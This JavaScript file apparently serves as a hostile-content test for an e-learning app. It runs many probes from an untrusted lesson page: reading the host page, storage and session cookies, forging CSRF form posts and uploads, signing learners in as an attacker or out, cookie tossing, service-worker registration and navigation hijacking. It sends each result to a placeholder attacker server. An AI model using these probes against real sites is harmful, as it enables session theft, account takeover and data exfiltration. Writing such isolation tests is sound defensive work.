/**
 * What a hostile lesson tries, all of it as soon as it is opened; what came of it goes to the attacker's own server.
 * The same probes run where the lesson is served from the app's own origin, and succeed there: so they are able to.
 *
 * @typedef {{app: string, lesson: string, another: string, victim: string, links: string[], zip: string, patience: number}} Target the
 *   app's origin, the addresses there of the lesson's page and of another's (in a new window, its own would be taken over there, and end
 *   here), the folder of a lesson's files that somebody has open, links that sign an attacker in, a package as base64, and how
 *   many milliseconds a probe may take
 */

const ATTACKER = "{attacker}";

/** The window of the app's page, if there is a way to it: around the shell, or behind it. */
function around() {
  let shell = false;
  try {
    shell = "API" in top;
  } catch {
    // another origin: it is not our shell
  }
  const found = shell ? top.opener : top;
  if (!found) throw new Error("there is no way to the app's page");
  return found;
}

const isPlayer = (page) => page.querySelector("#player") !== null;
const isReadable = (frame) => Boolean(frame.document?.body);
const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));

/** Wait until something is so; a window that is on its way gives no answer yet. */
async function until(ready) {
  for (;;) {
    try {
      if (ready()) return true;
    } catch {
      // not yet, or never: the probe's own time ends
    }
    await pause(50);
  }
}

/** Put an element into the page; it succeeds when it loads. */
function loads(name, attributes) {
  const element = Object.assign(document.createElement(name), attributes);
  return new Promise((resolve, reject) => {
    element.addEventListener("load", () => resolve(element));
    element.addEventListener("error", () => reject(new Error(`${name}: refused`)));
    document.body.append(element);
  });
}

/** Look into a frame, once it is at its address. */
async function framed(name, attributes, address) {
  const element = document.body.appendChild(Object.assign(document.createElement(name), attributes));
  return until(() => element.contentDocument.URL.startsWith(address) && isReadable(element.contentWindow));
}

/** Open a window, look at it until it shows what is wanted, and close it. */
async function inWindow(address, shows) {
  const opened = open(address);
  try {
    return await Promise.race([until(() => shows(opened)), pause(ours.patience * 0.8).then(() => false)]);
  } finally {
    opened.close();
  }
}

/** Wait for a message that has a certain word, and give back what it says about it. */
function hear(subject) {
  return new Promise((resolve) => {
    addEventListener("message", ({ data }) => subject in Object(data) && resolve(data[subject]));
  });
}

/** Run a program in a worker; it gives back one word. */
function inWorker(program) {
  const worker = new Worker(URL.createObjectURL(new Blob([program], { type: "text/javascript" })));
  return new Promise((resolve) => worker.addEventListener("message", (event) => resolve(event.data)));
}

const get = (address, options) => fetch(address, { credentials: "include", ...options });
const signedIn = async (target) => isPlayer(new DOMParser().parseFromString(await (await get(target.lesson)).text(), "text/html"));

/** The word that the forms of a page must say, if the page can be read from here. */
async function word(address) {
  const page = await get(address).then((reply) => reply.text(), () => "");
  return /(?:data-csrf|name="csrf" value)="([0-9a-f]+)"/.exec(page)?.[1] ?? "";
}

/** Send what a form of the app would send, with the cookies of whoever looks at the lesson. */
async function forge(address, form, fields = {}) {
  const body = new FormData();
  for (const [name, value] of Object.entries({ csrf: await word(form), ...fields })) body.set(name, value);
  const reply = await get(address, { method: "POST", mode: "no-cors", body });
  return reply.type === "basic" && reply.ok;
}

/** The same as a form that a script fills in and sends, into a frame that nobody sees. */
async function submit(address, form) {
  const frame = Object.assign(document.createElement("iframe"), { name: "unseen", hidden: true });
  const filled = Object.assign(document.createElement("form"), { method: "post", action: address, target: "unseen" });
  filled.append(Object.assign(document.createElement("input"), { name: "csrf", value: await word(form) }));
  document.body.append(frame, filled);
  const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
  filled.submit();
  await loaded;
}

const signOut = (target) => `${target.app}/s/haiphong/sign-out`;
const start = (target) => `${target.app}/s/haiphong/`;
const signIn = (target) => {
  const link = target.links.pop();
  return forge(link, link);
};

/** These disturb nobody: they run at once, side by side. */
const quiet = {
  "reads the page around it": () => isPlayer(around().document),
  "writes into the page around it": () => Boolean(around().document.body.append("")) || isPlayer(around().document),
  "reads the app's storage": () => around().localStorage.getItem("probe") === "secret",
  "reads the app's storage of the session": () => around().sessionStorage.getItem("probe") === "secret",
  "reads the app's database": async () => (await indexedDB.databases()).some(({ name }) => name === "probe"),
  "reads the app's cache": () => caches.has("probe"),
  "reads the app's cookies": () => document.cookie.includes("probe=secret"),
  "reads the app's cookies by their store": async () => (await cookieStore.get("probe")).value === "secret",
  "reads the cookie of the session": () => document.cookie.includes("__Host-haidang-session"),
  "reads a page of the app": (target) => signedIn(target),
  "reads a page of the app as old scripts do": (target) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.addEventListener("load", () => resolve(request.responseText.includes('id="player"')));
      request.addEventListener("error", () => reject(new Error("refused")));
      request.open("GET", target.lesson);
      request.send();
    }),
  "reads an answer to the app's scripts": async (target) => "state" in (await (await get(`${target.lesson}/state`)).json()),
  "reads a page of the app in a worker": (target) =>
    inWorker(`fetch(${JSON.stringify(target.lesson)}, { credentials: "include" }).then((reply) => reply.text())
      .then((page) => postMessage(page.includes('id="player"')), () => postMessage(false))`),
  "reads the app in a frame": (target) => framed("iframe", { src: start(target) }, start(target)),
  "reads the app in an object": (target) => framed("object", { data: start(target), type: "text/html" }, start(target)),
  "shows the app in a frame, under a picture of its own": (target) => {
    const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { src: target.another }));
    return until(() => frame.contentWindow.length > 0); // the page has a frame itself, which can be counted from any origin
  },
  "reads the app in a window": (target) => inWindow(start(target), (opened) => opened.document.URL === start(target) && isReadable(opened)),
  "counts the frames in a window of the app's": (target) => inWindow(target.another, (opened) => opened.length > 0),
  "reads the app in a window through its own popup": () => inWindow("popup.html#look", (opened) => opened.seen === true),
  "runs an answer of the app's as a script": (target) => loads("script", { src: `${target.lesson}/state` }),
  "takes a module of the app's": (target) =>
    import(`${target.app}/static/player/play.js`).then(() => true, (error) => /null/.test(error.message)), // it runs, and misses its page
  "runs a script of the app's in a worker": (target) =>
    inWorker(`try { importScripts(${JSON.stringify(`${target.app}/static/player/play.js`)}); postMessage(true); }
      catch (error) { postMessage(error.name !== "NetworkError"); }`),
  "dresses in the app's style": (target) => loads("link", { rel: "stylesheet", href: `${target.app}/static/haidang.css` }),
  "shows a picture of the app's": (target) => loads("img", { src: `${target.app}/static/lighthouse.svg` }),
  "reads a page of the app that it has loaded in advance": async (target) => {
    await loads("link", { rel: "preload", as: "fetch", crossOrigin: "use-credentials", href: target.lesson });
    return signedIn(target);
  },
  "learns whether the learner is signed in": async (target) => {
    await get(target.lesson, { mode: "no-cors" });
    return until(() => performance.getEntriesByName(target.lesson).some((entry) => entry.responseStatus === 200));
  },
  "takes an address of the app for its own": async (target) => {
    const frame = await loads("iframe", { src: "plain.html" });
    frame.contentWindow.history.replaceState(null, "", start(target));
    return true;
  },
  "changes what the app's page says": () => {
    for (const said of ["saved", "completed", { haidang: "saved" }, { haidang: "completed" }, { state: "completed" }]) around().postMessage(said, "*");
    around().document.getElementById("state").textContent = "owned";
    return true;
  },
  "installs a service worker": async () => {
    const blob = URL.createObjectURL(new Blob([""], { type: "text/javascript" }));
    const ways = [["sw.js"], ["sw.js", { scope: "/" }], ["sw.js?again"], ["sw.js", { type: "module" }], ["/_hd/shell.js", { scope: "/" }], [blob]];
    const tried = await Promise.allSettled(ways.map((way) => navigator.serviceWorker.register(...way)));
    const installed = tried.filter(({ status }) => status === "fulfilled");
    await Promise.all(installed.map(({ value }) => value.unregister()));
    return installed.length > 0;
  },
  "tells others its address": async () => {
    await Promise.allSettled([loads("img", { src: `${ATTACKER}/seen` }), fetch(`${ATTACKER}/seen`, { mode: "no-cors" })]);
    return (await fetch(`${ATTACKER}/referrers`)).text().then((seen) => seen.includes("/c/"));
  },
  "reads the storage of another lesson": () => localStorage.getItem("victim") === "secret",
  "reads the database of another lesson": async () => (await indexedDB.databases()).some(({ name }) => name === "victim"),
  "reads the cache of another lesson": () => caches.has("victim"),
  "sees the locks of another lesson": async () => (await navigator.locks.query()).held.some(({ name }) => name === "victim"),
  "hears another lesson": () =>
    new Promise((resolve) => {
      const channel = new BroadcastChannel("victim");
      channel.addEventListener("message", (event) => resolve(event.data === "secret"));
      channel.postMessage("ask");
    }),
  "speaks with the worker of another lesson": (target) =>
    new Promise((resolve, reject) => {
      const worker = new SharedWorker(`${target.victim}shared.js`, "victim");
      worker.addEventListener("error", () => reject(new Error("refused")));
      worker.port.addEventListener("message", (event) => resolve(event.data === "secret"));
      worker.port.start();
    }),
  "reads a file of another lesson, whose address it knows": async (target) => (await (await get(`${target.victim}secret.txt`)).text()) === "secret",
  "shows a picture of another lesson": (target) => loads("img", { src: `${target.victim}secret.svg` }),
  "runs a script of another lesson": (target) => loads("script", { src: `${target.victim}shared.js` }),
  "reads another lesson in a frame": (target) => framed("iframe", { src: `${target.victim}plain.html` }, target.victim),
};

/** These change what the others look at: they run one after the other, in this order. What came of the first ones the app's page has seen. */
const loud = {
  "leads the app's page elsewhere": (target) => {
    around().location.href = `${target.lesson}#owned-1`;
    return pause(500);
  },
  "leads the app's page elsewhere as its top": (target) => {
    around();
    open(`${target.lesson}#owned-2`, "_top");
    return pause(500);
  },
  "leads the app's page elsewhere by a link": (target) => {
    around();
    const link = Object.assign(document.createElement("a"), { href: `${target.lesson}#owned-3`, target: "_top" });
    document.body.appendChild(link).click();
    return pause(500);
  },
  "reads an answer of the app as nobody": (target) => {
    const told = hear("asNobody");
    const program = `fetch(${JSON.stringify(`${target.app}/static/haidang.css?nobody`)}).then((reply) => reply.text())
      .then((style) => style.length > 0, () => false).then((asNobody) => parent.postMessage({ asNobody }, "*"))`;
    const frame = Object.assign(document.createElement("iframe"), { srcdoc: `<script>${program}<\/script>` });
    frame.sandbox.add("allow-scripts");
    document.body.append(frame);
    return told;
  },
  "relaxes its domain, and reads the page around it": () => {
    try {
      around().document.domain = location.hostname.split(".").slice(1).join("."); // both have to say it
    } catch {
      // it cannot be reached, or does not let itself
    }
    const told = hear("relaxed");
    loads("iframe", { src: "relax.html" });
    return told;
  },
  "tosses a cookie at the app": async (target) => {
    const name = "__Host-haidang-session-haiphong";
    const before = document.cookie.split("; ").find((cookie) => cookie.startsWith(`${name}=`));
    const domain = location.hostname.split(".").slice(1).join(".");
    for (const each of [name, "__Host-haidang-form", "haidang-session-haiphong"]) {
      document.cookie = `${each}=tossed; Domain=${domain}; Path=/; Secure`;
      document.cookie = `${each}=tossed; Domain=${domain}; Path=/`;
    }
    document.cookie = `${name}=tossed; Path=/; Secure`; // of this very host: it counts where that is the app
    const tossed = location.origin === target.app && document.cookie.includes(`${name}=tossed`);
    document.cookie = before ? `${before}; Path=/; Secure` : `${name}=; Path=/; Secure; Max-Age=0`;
    return tossed;
  },
  "forges a launch": (target) => forge(`${target.lesson}/launch`, target.lesson),
  "forges an upload": async (target) => {
    const bytes = Uint8Array.from(atob(target.zip), (letter) => letter.charCodeAt(0));
    const file = new File([bytes], "forged.zip", { type: "application/zip" });
    const form = `${target.app}/s/haiphong/packages/new`;
    return forge(form, form, { package: file });
  },
  "signs the learner in as the attacker": async (target) => (await signIn(target)) && signedIn(target),
  "signs the learner out": (target) => forge(signOut(target), start(target)),
  "signs the learner out by a form": async (target) => {
    await signIn(target);
    const before = await signedIn(target);
    await submit(signOut(target), start(target));
    return before && !(await signedIn(target));
  },
  "signs the learner out by a beacon": async (target) => {
    await signIn(target);
    const before = await signedIn(target);
    navigator.sendBeacon(signOut(target), new URLSearchParams({ csrf: await word(start(target)) }));
    while (before && (await signedIn(target))) await pause(50);
    return before;
  },
};

let ours;

/** Try one probe; what takes too long has found nothing. */
async function attempt(probe) {
  const late = pause(ours.patience).then(() => false);
  return Promise.race([Promise.resolve().then(() => probe(ours)), late]).then(Boolean, () => false);
}

/** Ask the attacker for a target; only the first may begin, so that a lesson opened by a probe keeps quiet. */
async function begin() {
  const reply = await fetch(`${ATTACKER}/target`);
  ours = await reply.json();
  if (!(await fetch(`${ATTACKER}/claim`)).ok) return;
  const found = await Promise.all(Object.entries(quiet).map(async ([name, probe]) => [name, await attempt(probe)]));
  await tell(Object.fromEntries(found));
  for (const [name, probe] of Object.entries(loud)) await tell({ [name]: await attempt(probe) });
  open(`popup.html#${ours.lesson}#owned-4`); // the last of all: the app's page may be gone after it
}

/** Tell the attacker what was found. */
function tell(found) {
  return fetch(`${ATTACKER}/found`, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
}

begin();
